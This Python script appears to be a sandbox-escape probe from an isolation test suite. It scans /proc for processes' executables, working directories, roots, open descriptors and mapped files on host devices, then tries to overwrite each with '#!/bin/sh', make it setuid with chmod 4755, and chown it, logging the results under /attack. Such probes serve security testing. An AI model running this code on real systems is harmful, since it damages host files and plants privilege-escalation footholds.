# pyright: basic
"""Opens the open files of every process of the sandbox, and tries to change those from outside the sandbox."""

import json
import os
import stat

OWN = {os.stat(path).st_dev for path in ("/", "/dev", "/dev/shm", "/dev/pts", "/proc", "/sys", "/tmp", "/dev/null")}
OWN |= {os.lstat(f"/dev/{name}").st_dev for name in os.listdir("/dev")}
with open("/proc/self/mountinfo", encoding="utf-8") as mounts:
    OWN |= {os.makedev(*map(int, line.split()[2].split(":"))) for line in mounts}
found = {}
processes = set()


def harm(path, status):
    done = []
    for flags in (os.O_WRONLY | os.O_NONBLOCK, os.O_RDONLY | os.O_NONBLOCK):
        try:
            handle = os.open(path, flags)
        except OSError:
            continue
        try:
            try:
                os.write(handle, b"#!/bin/sh\n")
                done.append("written")
            except OSError:
                pass
            for name, arguments in (("chmod", [0o4755]), ("chown", [1, 1])):
                try:
                    getattr(os, f"f{name}")(handle, *arguments)
                    done.append(name)
                except OSError:
                    pass
        finally:
            os.close(handle)
        break
    return done


def is_there(name, status):
    """Return whether it is the sandbox's own file of this name: an overlay's layers have other devices."""
    try:
        return os.path.samestat(os.stat(name), status)
    except OSError:
        return False


def look(path):
    try:
        name, status = os.readlink(path), os.stat(path)
        if os.readlink(path) != name:  # it executed another program meanwhile
            return None
    except OSError:
        return None
    if (
        not (stat.S_ISREG(status.st_mode) or stat.S_ISDIR(status.st_mode))
        or status.st_dev in OWN
        or is_there(name, status)
    ):
        return None
    if (name, status.st_dev, status.st_ino) not in found:
        found[name, status.st_dev, status.st_ino] = harm(path, status)
    return found[name, status.st_dev, status.st_ino]


mine = os.memfd_create("mine")
control = look(f"/proc/self/fd/{mine}")
os.close(mine)
found.clear()
open("/attack/hunts", "w", encoding="utf-8").close()
while not os.path.exists("/attack/stop"):
    for pid in os.listdir("/proc"):
        if not pid.isdecimal() or int(pid) == os.getpid():
            continue
        processes.add(pid)
        place = f"/proc/{pid}"
        for name in ("exe", "cwd", "root"):
            look(f"{place}/{name}")
        for folder in ("fd", "map_files"):
            try:
                names = os.listdir(f"{place}/{folder}")
            except OSError:
                continue
            for name in names:
                look(f"{place}/{folder}/{name}")
foreign = [{"name": name, "done": done} for (name, _, _), done in found.items()]
with open("/attack/found.part", "w", encoding="utf-8") as file:
    json.dump({"processes": len(processes), "control": control, "foreign": foreign}, file)
os.rename("/attack/found.part", "/attack/found")
